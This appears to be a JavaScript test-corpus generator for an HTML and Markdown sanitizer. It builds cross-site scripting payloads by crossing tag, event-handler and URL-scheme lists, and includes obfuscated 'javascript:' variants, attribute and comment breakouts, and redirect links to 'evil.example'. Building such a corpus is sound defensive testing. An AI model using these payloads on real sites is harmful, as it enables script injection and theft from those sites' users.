// Our own attacks, by the rules that make them: where collections only list, every one with every other.
const TAGS = `a abbr acronym address animate applet area article aside audio b base bdi big blink blockquote body br button canvas center code custom-tag dd
  details dialog div dl dt em embed fieldset font footer form frame frameset h1 head header hr html i iframe image img input ins isindex kbd keygen label
  legend li link listing main map mark marquee math menu meta meter multicol nav nextid noscript object ol optgroup option output p param picture plaintext
  pre progress q ruby s script search section select set slot source span strike style sub summary sup svg table tbody td template textarea th time title tr
  track tt u ul use var video wbr xmp xss`.split(/\s+/);
const HANDLERS = `onload onerror onclick onmouseover onfocus onblur ontoggle onbeforetoggle onbegin onend onrepeat onanimationstart onanimationend
  onanimationiteration ontransitionend ontransitionrun onscroll onscrollend onscrollsnapchange onpointerover onpointerenter onpointerrawupdate onwheel
  onbeforecopy onpaste oncut ondrag ondrop onfocusin oninvalid onsearch onstart onfinish onbounce onloadstart onloadeddata oncanplay onplay ontimeupdate
  onhashchange onpageshow onpopstate onmessage onresize onunhandledrejection oncontentvisibilityautostatechange onsecuritypolicyviolation`.split(/\s+/);
const SCHEMES = ['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjava\nscript:', 'java\0script:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6a&#x61vascript:',
  'javascript\u200b:', '\u00a0javascript:', '\ufeffjavascript:', 'vbscript:', 'data:text/html,', 'data:image/svg+xml,', 'feed:javascript:', 'view-source:javascript:', 'blob:', 'file:///',
  'filesystem:', 'jar:', 'ws://', 'intent://', 'about:blank#', '//evil.example/', '/\\evil.example/', '\\\\evil.example\\', 'https:evil.example', 'https:/evil.example', 'http:\\\\evil.example',
  'https://good.example@evil.example/', 'https://evil.example\u3002good.example/', 'https://evil.example\uff0fgood', '#', '#c-"onclick=alert(1) x="', '#c-<svg/onload=alert(1)>', '?', 'mailto:a@b.cd?%0abcc:x'];

export function made() {
  const handlers = TAGS.map((tag, t) => HANDLERS.slice(t % 3).filter((_, h) => (h + t) % 4 === 0)
    .map((handler) => `<${tag} ${handler}=alert(1) src=x href=x tabindex=0 autofocus style="animation:x 1s" contenteditable>x</${tag}>`).join(''));
  // Markup of every kind inside of each of every kind, cut open.
  const nested = TAGS.flatMap((outer, o) => TAGS.filter((_, i) => (i + o) % 9 === 0)
    .map((inner) => `<${outer}><${inner} title="</${outer}><img src=x onerror=alert(1)>"><style><!--</style><img src=x onerror=alert(1)>--></${outer}>`));
  const links = SCHEMES.map((scheme) => `<a href="${scheme}alert(1)">x</a><a href='${scheme}alert(1)//' target=_top ping=x>y</a><img src="${scheme}alert(1)"><svg><a xlink:href="${scheme}alert(1)">z</a></svg>`);
  const targets = SCHEMES.flatMap((scheme) => [`[x](${scheme}alert(1))`, `[x](<${scheme}alert(1)>)`, `![x](${scheme}alert(1))`, `[x][r]\n\n[r]: ${scheme}alert(1)`, `<${scheme}alert(1)>`, `${scheme}alert(1)`,
    `[![x](${scheme}alert(1))](${scheme}alert(1))`, `[x](https://a.example/ "${scheme}\\"onclick=alert(1)")`, `\`\`\`${scheme}alert(1)\n<script>alert(1)</script>`, `> - # [x](${scheme}alert(1))`]);
  return [
    { name: 'handlers of every element', format: 'html', bodies: handlers },
    { name: 'elements in elements', format: 'html', bodies: nested },
    { name: 'schemes in HTML', format: 'html', bodies: links },
    { name: 'schemes in Markdown', format: 'markdown', bodies: targets },
  ];
}
